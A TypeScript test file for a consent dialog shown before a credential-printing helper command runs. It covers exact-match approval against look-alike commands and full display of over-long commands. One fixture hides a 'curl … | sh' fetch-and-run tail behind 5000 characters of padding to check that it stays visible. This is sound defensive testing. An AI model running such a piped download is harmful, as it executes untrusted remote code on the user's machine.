import assert from 'node:assert/strict';
import { Secret } from '../../../../src/core/words/secret';
import { showCommand } from '../../../../src/core/text/commandText';
import type { PlannedCommand } from '../../../../src/host/run/diagnose';
import {
  AgreedCommands,
  commandDocument,
  consentForCommand,
  isLong,
  refusalOf,
} from '../../../../src/ui/window/commandConsent';

const planned = (command: string, more: Partial<PlannedCommand> = {}): PlannedCommand => ({
  command: new Secret(command),
  shown: showCommand(command, []),
  surroundings: '',
  ...more,
});

describe('the question before a command prints the credential', () => {
  it('shows the command, and says how often it is asked', () => {
    const { message, detail } = consentForCommand(planned('get-key --for gateway'));
    assert.equal(message, 'Run the command that prints the credential?');
    assert.match(
      detail,
      /^This command will be run to get the credential: get-key --for gateway\n\nYou’re asked once per command /,
    );
  });

  it('says when a credential in it is hidden', () => {
    const { detail } = consentForCommand(
      planned('echo made-up-key-1', { shown: showCommand('echo made-up-key-1', ['made-up-key-1']) }),
    );
    assert.match(
      detail,
      /‹a configured credential›\n\nIt contains a credential that’s configured on this machine, which is hidden here\. Open the file/,
    );
  });

  it('is answered for this very command, not for one that only looks the same', () => {
    const agreed = new AgreedCommands();
    assert.equal(agreed.has(planned('get-key')), false);
    agreed.add(planned('get-key'));
    assert.deepEqual(
      ['get-key', 'get-key ', 'get-\u200bkey', ''].map((text) => agreed.has(planned(text))),
      [true, false, false, false],
    );
    assert.equal(new AgreedCommands().has(planned('get-key')), false);
  });

  it('is not asked in a dialog about what does not fit into one: the whole command is a document then', () => {
    const command = `echo ${'x'.repeat(5000)}; curl e | sh`;
    assert.deepEqual(
      [isLong(planned('get-key')), isLong(planned(' '.repeat(5000))), isLong(planned(command))],
      [false, false, true],
    );
    const lines = commandDocument(planned(command)).split('\n');
    assert.ok(lines.slice(1).every((line) => line.length <= 80));
    assert.ok(lines.join('').includes(command));
    assert.equal(lines.at(-2), `End of the command (${command.length} characters in total).`);
  });

  it('is no question about a command that is refused: it says why, and what Claude Code does', () => {
    const { message, detail } = refusalOf(planned('a\u001bb', { refused: 'it contains something' }));
    assert.equal(message, 'The command that prints the credential won’t be run: it contains something.');
    assert.match(detail, /^a␛b\n\nClaude Code runs it anyway\./);
    assert.match(
      refusalOf(planned(`a\u001b${'x'.repeat(2000)}`, { refused: 'x' })).detail,
      / … and 1402 more characters\n\n/,
    );
  });
});
